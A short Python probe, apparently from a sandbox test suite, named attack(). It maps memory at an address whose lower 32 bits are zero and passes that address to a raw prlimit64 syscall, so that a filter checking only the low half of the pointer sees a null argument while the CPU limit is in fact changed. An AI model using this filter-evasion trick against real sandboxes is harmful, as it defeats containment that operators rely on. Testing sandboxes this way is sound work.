"""Changes its limits from an address whose lower half is zero: read as half a number it is none."""

import ctypes
import platform
import resource


def attack():
    if platform.machine() != "x86_64":
        return False
    libc, PRLIMIT, CPU, FIXED = ctypes.CDLL(None), 302, resource.RLIMIT_CPU, 0x100000 | 0x20 | 0x02
    place = ctypes.c_void_p(1 << 32)
    libc.mmap(place, ctypes.c_size_t(4096), 3, FIXED, -1, ctypes.c_long(0))
    other = resource.getrlimit(CPU)[1] - 1  # an administrator could raise it likewise
    ctypes.memmove(place, (ctypes.c_uint64 * 2)(other, other), 16)
    libc.syscall(PRLIMIT, 0, CPU, place, None)
    return resource.getrlimit(CPU)[1] == other
